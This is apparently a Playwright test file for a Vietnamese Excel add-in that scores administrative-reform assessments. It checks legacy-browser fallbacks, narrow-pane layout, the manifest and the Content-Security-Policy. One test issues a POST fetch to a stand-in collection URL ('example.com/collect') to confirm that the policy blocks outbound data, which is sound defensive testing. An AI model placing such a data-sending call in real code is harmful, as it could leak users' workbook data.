/**
 * The built task pane in Debian's Chromium (playwright-core, never a browser download):
 * the production page outside Office, and the preview page scoring the bundled sample
 * through the real adapter and a fake workbook. Office.js is served from the
 * @microsoft/office-js package: the CDN is unreachable here.
 */
import { existsSync, promises as fs } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import * as acorn from "acorn";
import { validateManifest } from "../../scripts/validate-manifest";
import {
  buildPreviewOnce,
  CHROMIUM,
  describeInBrowser,
  hasChromium,
  launchChromium,
  PREVIEW_DIST,
  ROOT,
  serve,
} from "../support/browser";

const OUT = PREVIEW_DIST;
const SCREENSHOT = path.join(ROOT, "test", ".tmp", "taskpane-preview.png");
const OFFICE_JS = path.join(ROOT, "node_modules", "@microsoft", "office-js", "dist");

if (!hasChromium) {
  process.stderr.write(
    `Bỏ qua kiểm thử trình duyệt: không có ${CHROMIUM} (apt-get install chromium).\n`
  );
}

describeInBrowser("task pane in Chromium", () => {
  let server: http.Server;
  let browser: Browser;
  let base: string;

  beforeAll(async () => {
    await buildPreviewOnce();
    server = await serve(OUT);
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await launchChromium();
  }, 900_000);

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => server?.close(resolve));
  });

  it("ships scripts that parse at the bundles' language level, and the guard that runs first as ES5", async () => {
    // The level webpack targets; the webviews the pane serves parse it (see webpack.config.js).
    const { LANGUAGE_LEVEL } = require("../../webpack.config.js") as { LANGUAGE_LEVEL: string };
    const ecmaVersion = Number(LANGUAGE_LEVEL.replace(/^es/, "")) as acorn.ecmaVersion;
    const scripts = (await fs.readdir(OUT)).filter((f) => f.endsWith(".js") && f !== "preview.js");
    expect(scripts.sort()).toEqual([
      "commands.js",
      "dialog.js",
      "legacy-webview-guard.js",
      "taskpane.js",
    ]);
    for (const script of scripts) {
      const source = await fs.readFile(path.join(OUT, script), "utf8");
      const level = script === "legacy-webview-guard.js" ? 5 : ecmaVersion;
      expect(() => acorn.parse(source, { ecmaVersion: level, sourceType: "script" })).not.toThrow();
    }
    // The check can fail: the bundles do not parse as ES5.
    const bundle = await fs.readFile(path.join(OUT, "taskpane.js"), "utf8");
    expect(() => acorn.parse(bundle, { ecmaVersion: 5, sourceType: "script" })).toThrow();
    for (const page of ["taskpane.html", "commands.html", "dialog.html"]) {
      const html = await fs.readFile(path.join(OUT, page), "utf8");
      const scriptsInOrder = [...html.matchAll(/<script[^>]*src="?([^" >]+)/g)].map((m) =>
        path.basename(m[1])
      );
      expect(scriptsInOrder.indexOf("legacy-webview-guard.js")).toBe(1); // right after office.js
    }
  });

  it.each([
    [
      "Internet Explorer 11 (Trident)",
      "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; rv:11.0) like Gecko",
    ],
    [
      "Edge Legacy (EdgeHTML)",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19041",
    ],
  ])(
    "shows a Vietnamese message instead of a blank pane in %s, and the ribbon button answers",
    async (_name, userAgent) => {
      const { page } = await openPage(`${base}/taskpane.html`, { userAgent });
      const message = page.locator("#legacy-webview-message");
      await message.waitFor();
      expect(await message.textContent()).toContain("WebView2");
      expect(await page.locator("#container").count()).toBe(0);
      await page.close();
      const command = await openPage(`${base}/commands.html`, { userAgent });
      await command.page.waitForLoadState("load");
      expect(
        await command.page.evaluate(
          () => typeof (window as unknown as { scoreActiveSheet?: unknown }).scoreActiveSheet
        )
      ).toBe("function");
      await command.page.close();
    }
  );

  it("fits Excel's narrowest pane (320 px): nothing scrolls sideways; area points and the nearly-due field are in view", async () => {
    const { page, errors } = await openPage(`${base}/preview.html`, { width: 320 });
    await page.getByRole("button", { name: "Chấm điểm" }).click();
    await page.getByText("4,24 / 8,5 điểm").waitFor();
    const width = await page.evaluate(() => document.scrollingElement!.scrollWidth);
    expect(width).toBeLessThanOrEqual(320);
    const inView = async (box: { x: number; width: number } | null) => {
      expect(box).not.toBeNull();
      expect(box!.x).toBeGreaterThanOrEqual(0);
      expect(box!.x + box!.width).toBeLessThanOrEqual(320);
    };
    const points = page.getByTestId("area-points");
    expect(await points.count()).toBeGreaterThan(0);
    for (let i = 0; i < (await points.count()); i++)
      await inView(await points.nth(i).boundingBox());
    await inView(await page.getByLabel("Sắp đến hạn trong (ngày)").boundingBox());
    await inView(await page.getByLabel("Tính đến ngày").boundingBox());
    expect(errors).toEqual([]);
    await page.close();
  });

  it("works when the build is served under a path (https://server/cham-diem-cchc/)", async () => {
    const underPath = await serve(OUT, "/cham-diem-cchc");
    try {
      const root = `http://127.0.0.1:${(underPath.address() as AddressInfo).port}/cham-diem-cchc`;
      const { page, errors } = await openPage(`${root}/preview.html`);
      await page.getByRole("button", { name: "Chấm điểm" }).click();
      await page.getByText("4,24 / 8,5 điểm").waitFor();
      const dialog = await openPage(`${root}/dialog.html?m=${encodeURIComponent("Đã chấm")}&k=ok`);
      expect(
        await dialog.page
          .locator("link[rel=stylesheet]")
          .evaluate((l) => (l as HTMLLinkElement).href)
      ).toBe(`${root}/dialog.css`);
      expect(errors).toEqual([]);
      await page.close();
      await dialog.page.close();
    } finally {
      await new Promise((resolve) => underPath.close(resolve));
    }
  });

  /** A page that answers Office.js from the local package and records console errors. */
  async function openPage(
    url: string,
    { width = 380, userAgent }: { width?: number; userAgent?: string } = {}
  ): Promise<{ page: Page; errors: string[]; external: string[] }> {
    const page = await browser.newPage({ viewport: { width, height: 1400 }, userAgent });
    const errors: string[] = [];
    const external: string[] = [];
    page.on("console", (msg) => {
      if (msg.type() === "error") errors.push(msg.text());
    });
    page.on("pageerror", (error) => errors.push(String(error)));
    await page.route("**/*", async (route) => {
      const url = new URL(route.request().url());
      if (url.hostname === "appsforoffice.microsoft.com") {
        const file = path.join(OFFICE_JS, path.basename(url.pathname));
        if (existsSync(file)) {
          await route.fulfill({ path: file, contentType: "text/javascript" });
          return;
        }
      }
      if (url.hostname !== "127.0.0.1") {
        external.push(url.href);
        await route.abort();
        return;
      }
      await route.continue();
    });
    await page.goto(url);
    return { page, errors, external };
  }

  it("builds a production manifest that points only at the production address and still validates", async () => {
    const manifest = await fs.readFile(path.join(OUT, "manifest.xml"), "utf8");
    expect(manifest).not.toContain("localhost");
    expect(manifest).toContain("<AppDomain>https://cchc.example.gov.vn</AppDomain>");
    expect(manifest).toContain('DefaultValue="https://cchc.example.gov.vn/addin/taskpane.html"');
    expect(await validateManifest(path.join(OUT, "manifest.xml"))).toEqual([]);
  });

  it("renders the production pane outside Office without console errors and says to open it in Excel", async () => {
    const { page, errors } = await openPage(`${base}/taskpane.html`);
    await page.getByRole("heading", { name: "Chấm điểm CCHC" }).waitFor();
    await page.getByText("Chưa mở trong Excel").waitFor();
    expect(await page.getByRole("button", { name: "Chấm điểm" }).isDisabled()).toBe(true);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("lets the pane reach no other host: the Content-Security-Policy blocks the request before it leaves", async () => {
    const { page, external } = await openPage(`${base}/taskpane.html`);
    await page.getByRole("heading", { name: "Chấm điểm CCHC" }).waitFor();
    const outcome = await page.evaluate(async () => {
      try {
        await fetch("https://example.com/collect", { method: "POST", body: "x" });
        return "sent";
      } catch {
        return "blocked";
      }
    });
    expect(outcome).toBe("blocked");
    expect(external).toEqual([]);
    const csp = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    expect(csp).toContain("connect-src 'self' https://appsforoffice.microsoft.com;");
    expect(csp).not.toContain("unsafe-eval");
    // The roll-up's Web Worker starts from a Blob URL; blob: is allowed for workers only.
    expect(csp).toContain("worker-src blob:;");
    expect(csp).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com;/);
    for (const other of ["commands.html", "dialog.html"])
      expect(await fs.readFile(path.join(OUT, other), "utf8")).not.toContain("worker-src");
    await page.close();
  });

  it("scores the bundled sample through the adapter and a fake workbook, and selects a row on click", async () => {
    const { page, errors, external } = await openPage(`${base}/preview.html`);
    await page.getByRole("button", { name: "Chấm điểm" }).click();
    await page.getByText("4,24 / 8,5 điểm").waitFor();
    await page.getByText("Tiêu chí mất điểm (cần tập trung)").waitFor();
    await page.getByText("Tỷ lệ 93,5% < 95%: không chấm điểm, mất 1,5 điểm").waitFor();
    await page.getByText("Việc quá hạn theo đơn vị").waitFor();
    await page.getByRole("button", { name: /Chọn dòng 10 trang Tự chấm điểm 2025/ }).click();
    await page.waitForFunction(
      () =>
        (window as unknown as { fakeExcel: { selected: string } }).fakeExcel.selected ===
        "Tự chấm điểm 2025!10"
    );
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    expect(errors).toEqual([]);
    expect(external).toEqual([]);
    await page.close();
  });
});
